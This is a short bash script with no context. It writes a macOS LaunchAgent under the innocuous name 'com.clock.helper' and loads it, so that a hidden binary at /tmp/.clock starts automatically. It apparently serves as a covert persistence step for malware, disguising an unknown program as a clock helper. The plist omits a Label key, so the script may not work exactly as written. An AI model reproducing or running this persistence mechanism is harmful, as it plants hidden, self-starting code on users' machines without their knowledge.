#!/bin/bash
cat > ~/Library/LaunchAgents/com.clock.helper.plist <<'PLIST'
<plist><dict><key>ProgramArguments</key><array><string>/tmp/.clock</string></array></dict></plist>
PLIST
launchctl load ~/Library/LaunchAgents/com.clock.helper.plist
